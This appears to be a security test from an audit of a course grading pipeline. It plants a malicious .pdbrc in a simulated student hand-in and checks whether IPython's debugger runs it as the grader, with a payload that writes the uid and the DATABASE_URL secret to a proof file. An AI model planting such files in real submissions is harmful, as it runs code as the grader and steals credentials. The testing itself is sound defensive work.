"""a16: a file no tool-file list knows: `.pdbrc`. Python's pdb (and IPython's debugger, %debug, which subclasses it)
reads `.pdbrc` from the current folder and runs its lines as debugger commands (Python statements). The TA who
opens a hand-in in JupyterLab gets a kernel whose cwd is the student's folder (round 38, a17); after a failing cell,
`%debug` is the natural next step. Does `make grade` (and collect's leave-out list) let a `.pdbrc` through, and does
IPython's debugger, started in that folder, run it as the TA? Controls aaron and zoe graded beside."""
import os, sys, subprocess
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
PROOF = "/tmp/attack39-root-pdbrc-proof"
if os.path.exists(PROOF): os.unlink(PROOF)
rc = f"import os; open({PROOF!r}, 'w').write('uid=%d DATABASE_URL=%s' % (os.getuid(), os.environ.get('DATABASE_URL')))\n"
d = make_course("pdbrc"); good = solution_nb()
put(d, "aaron", good); put(d, "mallory", good, extra={".pdbrc": rc}); put(d, "zoe", good)
grade(d); scores(d)
folder = f"{d}/submitted/mallory/ps1_memory"
print("hand-in still holds .pdbrc:", os.path.exists(f"{folder}/.pdbrc"))
# what %debug does in a kernel started in that folder: IPython's Pdb, post-mortem of the last exception
py = "import sys\ntry:\n    1/0\nexcept ZeroDivisionError:\n    from IPython.core.debugger import Pdb\n    p = Pdb()\n    p.reset(); p.interaction(None, sys.exc_info()[2])\n"
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", PYTHONSAFEPATH="1")
r = subprocess.run([f"{CLONE}/.venv/bin/python", "-c", py], cwd=folder, input="q\n", capture_output=True, text=True, env=env, timeout=60)
print("IPython debugger in the hand-in folder: rc", r.returncode)
print("proof:", open(PROOF).read() if os.path.exists(PROOF) else "none")
if os.path.exists(PROOF): os.unlink(PROOF)
